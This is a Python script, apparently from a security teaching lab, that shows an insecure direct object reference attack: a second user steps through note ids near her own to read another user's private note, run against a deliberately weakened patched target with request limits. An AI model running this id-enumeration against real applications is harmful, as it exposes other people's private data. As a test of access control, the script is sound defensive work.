"""Reading other people's notes by changing the number in the URL (IDOR).

Alice keeps a private note. Mallory has an account of her own and a note of
her own, at /notes/<her id>. She tries the ids around it.
"""
import lab

# The weak target: step 09 with weak_idor.patch, a naive twin that finds a
# note by its id alone and never asks whose it is.
WEAK = "patch"
PATCH = "weak_idor.patch"
MAX_REQUESTS = 20
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt

ALICE_PASSWORD = "alice has a long passphrase nobody guesses"
MALLORY_PASSWORD = "mallory has a long passphrase of her own"
SECRET = "the spare key is under the third flowerpot"


def attack(target):
    alice = logged_in(target, "alice", ALICE_PASSWORD)
    written = alice.post("/notes", json={"text": SECRET})
    if written.status != 201:
        raise lab.Missing(f"POST /notes answered {written.status}: no notes yet")
    mallory = logged_in(target, "mallory", MALLORY_PASSWORD)
    own = mallory.post("/notes", json={"text": "my shopping list"}).json["note"]["id"]
    evidence = [f"alice writes a private note; mallory writes one too and sees its id: {own}"]
    for note_id in range(max(1, own - 3), own + 4):
        if note_id == own:
            continue
        answer = mallory.get(f"/notes/{note_id}")
        shown = f"a note that says {answer.json['note']['text']!r}" if answer.status == 200 else answer.text.strip()
        evidence.append(f"  mallory: GET /notes/{note_id} -> {answer.status} {shown}")
        if answer.status == 200 and SECRET in answer.text:
            evidence.append("mallory reads alice's note: the app found it by its id and never asked whose it was")
            return lab.Outcome(got_through=True, evidence=evidence)
    evidence.append("every other id answers 404, the same as an id nobody has: mallory can't even tell which exist")
    return lab.Outcome(got_through=False, evidence=evidence)


def logged_in(target, name, password):
    target.verified_user(name, f"{name}@example.com", password)
    browser = target.client(name)
    answer = browser.post("/auth/login", json={"username": name, "password": password})
    if answer.status != 200:
        raise lab.Missing(f"{name}'s login answered {answer.status}")
    return browser
